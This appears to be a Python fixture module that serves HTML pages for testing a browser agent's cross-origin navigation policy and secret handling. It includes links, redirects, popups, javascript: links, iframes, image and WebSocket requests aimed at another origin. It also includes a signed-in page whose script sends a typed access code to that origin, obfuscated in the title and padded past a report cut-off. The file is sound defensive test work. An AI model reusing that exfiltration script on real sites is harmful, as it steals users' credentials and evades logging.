"""Pages for the navigation-policy and secrets tests, served by ``SiteServer`` under ``/safety/``.

* ``/safety/`` -- links and buttons that each try to leave for the other origin
  (``http://localhost:<port>`` when the page is opened on ``127.0.0.1``): a plain link, a
  redirect, a ``target=_blank`` link, ``window.open``, a cross-origin form post, a ``data:`` link,
  a ``javascript:`` link, an iframe, an image request, a WebSocket; and a same-origin link.
  Each element is a fixed 240x40 box: element ``i`` is centred at CSS pixel (140, 60 + 50*i).
* ``/safety/target?via=...`` -- where they lead; every request under ``/safety/`` is recorded in
  :attr:`SiteServer.safety_hits` as ``(Host header, path and query)``.
* ``/safety/redirect?to=URL`` -- a 302 to ``URL``.
* ``/safety/login`` -- a GET form: a user field centred at (560, 164) and an access-code text
  field at (560, 244); submitting records ``{user, code}`` in :attr:`SiteServer.logins` and shows
  "Signed in as <user>" (the code itself is never shown). Opened as ``/safety/login?then=exfil``,
  the signed-in page shows the code as HTML character references in its title (``&#115;...``,
  as text) and sends it away at once: it navigates to the other origin's
  ``/safety/target?via=exfil`` with the code in the query, padded so that the code starts 8
  characters before the 160th (where a blocked URL's report is cut).
"""

from __future__ import annotations

import html
import json
from urllib.parse import quote

__all__ = ["SAFETY_ELEMENTS", "render_login", "render_safety_index", "render_signed_in", "render_target"]

#: Ids of the index page's elements, in their vertical order.
SAFETY_ELEMENTS = (
    "direct",
    "redirect",
    "popup",
    "open",
    "form",
    "data",
    "js",
    "frame",
    "image",
    "socket",
    "allowed",
    "allowed-redirect",
)

_STYLE = (
    "<style>body{margin:0;font:16px sans-serif} .b{position:absolute;left:20px;width:240px;height:40px;"
    "display:block;box-sizing:border-box;border:1px solid #444;background:#eef;padding:8px;margin:0;"
    "text-decoration:none;color:#000;font:16px sans-serif} form.b{padding:0;border:0} form.b button{width:100%;"
    "height:100%} .f{position:absolute;left:400px;width:320px;height:48px;font:18px sans-serif}"
    " label{position:absolute;left:200px;font:18px sans-serif} #log{position:absolute;left:320px;top:60px}</style>"
)


def _doc(title: str, body: str) -> str:
    return (
        f'<!doctype html>\n<html lang="en"><head><meta charset="utf-8"><title>{html.escape(title)}</title>'
        f"{_STYLE}</head><body>\n{body}</body></html>\n"
    )


def render_safety_index(other: str) -> str:
    """The index page; ``other`` is the other origin, e.g. ``http://localhost:8123``."""
    target = other + "/safety/target?via="
    js_target = json.dumps(target)
    items = {
        "direct": f'<a class="b" id="direct" href="{target}link">Other site</a>',
        "redirect": f'<a class="b" id="redirect" href="/safety/redirect?to={quote(target + "redirect", safe="")}">'
        "Redirect away</a>",
        "popup": f'<a class="b" id="popup" href="{target}popup" target="_blank">Other site in a new tab</a>',
        "open": f'<button class="b" id="open" onclick="window.open({html.escape(js_target)} + \'open\')">window.open</button>',
        "form": f'<form class="b" id="form" action="{target}form" method="post"><input type="hidden" name="x" '
        'value="1"><button>Post to other site</button></form>',
        "data": '<a class="b" id="data" href="data:text/html,%3Ch1%3Edata%20page%3C/h1%3E">data: page</a>',
        "js": f'<a class="b" id="js" href="javascript:location.href={html.escape(js_target)}+\'js\'">javascript: link</a>',
        "frame": '<button class="b" id="frame" onclick="const f=document.createElement(\'iframe\');'
        f"f.src={html.escape(js_target)}+'iframe';f.style='position:absolute;left:600px;top:300px';"
        'document.body.appendChild(f)">Add a frame</button>',
        "image": f'<button class="b" id="image" onclick="new Image().src={html.escape(js_target)}+\'image\'">'
        "Load an image</button>",
        "socket": '<button class="b" id="socket" onclick="'
        f"try{{new WebSocket({html.escape(json.dumps(other.replace('http', 'ws', 1)))}+'/safety/socket')}}"
        'catch(e){}">Open a WebSocket</button>',
        "allowed": '<a class="b" id="allowed" href="/safety/target?via=allowed">Same site</a>',
        "allowed-redirect": '<a class="b" id="allowed-redirect" '
        'href="/safety/redirect?to=%2Fsafety%2Ftarget%3Fvia%3Dallowed-redirect">Same-site redirect</a>',
    }
    rows = []
    for i, name in enumerate(SAFETY_ELEMENTS):
        html_item = items[name]
        rows.append(html_item.replace('class="b"', f'class="b" style="top:{40 + 50 * i}px"', 1))
    return _doc("Safety test page", "\n".join(rows) + '\n<div id="log"></div>\n')


def render_target(via: str) -> str:
    return _doc(f"Target {via}", f'<h1 id="target">Target reached via {html.escape(via)}</h1>\n')


def render_login(then: str = "") -> str:
    hidden = f'<input type="hidden" name="then" value="{html.escape(then)}">' if then else ""
    body = (
        '<h1 style="position:absolute;left:200px;top:30px">Sign in</h1>\n'
        '<form action="/safety/login" method="get">\n'
        '<label for="user" style="top:152px">User</label>'
        '<input class="f" id="user" name="user" type="text" autocomplete="off" style="top:140px">\n'
        '<label for="code" style="top:232px">Access code</label>'
        '<input class="f" id="code" name="code" type="text" autocomplete="off" style="top:220px">\n'
        f'{hidden}<button class="f" style="top:300px">Sign in</button>\n</form>\n'
    )
    return _doc("Sign in", body)


def render_signed_in(user: str, *, exfil_to: str = "", code: str = "") -> str:
    """The signed-in page; with ``exfil_to`` (the other origin) it sends ``code`` there at once."""
    script = ""
    if exfil_to:
        script = (
            "<script>const code = " + _js(code) + ";"
            "document.title = [...code].map(c => '&#' + c.codePointAt(0) + ';').join('');"
            "const base = " + _js(exfil_to + "/safety/target?via=exfil&pad=") + ";"
            "const tail = '&code=' + encodeURIComponent(code);"
            "location.href = base + 'x'.repeat(Math.max(0, 152 - base.length - 6)) + tail;</script>\n"
        )
    return _doc(f"Welcome {user}", f'<h1 id="welcome">Signed in as {html.escape(user)}</h1>\n{script}')


def _js(value: str) -> str:
    """A JavaScript string literal that is safe inside a <script> element."""
    return json.dumps(value).replace("<", "\\u003c")
